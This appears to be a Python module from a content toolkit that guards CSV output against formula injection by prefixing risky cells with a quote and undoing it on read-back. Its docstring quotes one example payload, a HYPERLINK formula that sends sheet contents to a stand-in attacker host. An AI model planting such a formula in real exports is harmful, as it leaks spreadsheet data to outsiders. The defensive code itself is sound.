"""Cells that are safe to open in a spreadsheet (CSV formula injection).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula: a post titled
``=HYPERLINK("http://evil.example/?x="&A1,"Click me")`` written as is into a CSV
becomes a live link that leaks the sheet. Every CSV the kit writes passes its
cells through :func:`safe_cell`, which prefixes such a cell with ``'`` (the
usual neutralisation, OWASP's advice); :func:`unsafe_cell` takes it off again
when a CSV the kit wrote is read back (``calendar --import``), so a round trip
is byte-identical.

A cell that already starts with ``'`` is prefixed too, so that the prefix is
always removable: ``'abc`` is written ``''abc`` and read back as ``'abc``.

This module imports nothing of ours; plugins, seo/ and outreach/ may import it.
"""

from __future__ import annotations

from collections.abc import Iterable

#: Leading characters a spreadsheet treats as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def safe_cell(value: object) -> object:
    """The cell as a spreadsheet will show it, never run it; non-strings unchanged."""
    if isinstance(value, str) and value and (value.startswith(FORMULA_STARTS) or value.startswith(PREFIX)):
        return PREFIX + value
    return value


def unsafe_cell(value: str) -> str:
    """Undo :func:`safe_cell` on a cell read back from a CSV the kit wrote."""
    if value.startswith(PREFIX) and len(value) > 1 and value[1:].startswith((*FORMULA_STARTS, PREFIX)):
        return value[1:]
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    """A CSV row with every cell passed through :func:`safe_cell`."""
    return [safe_cell(cell) for cell in row]
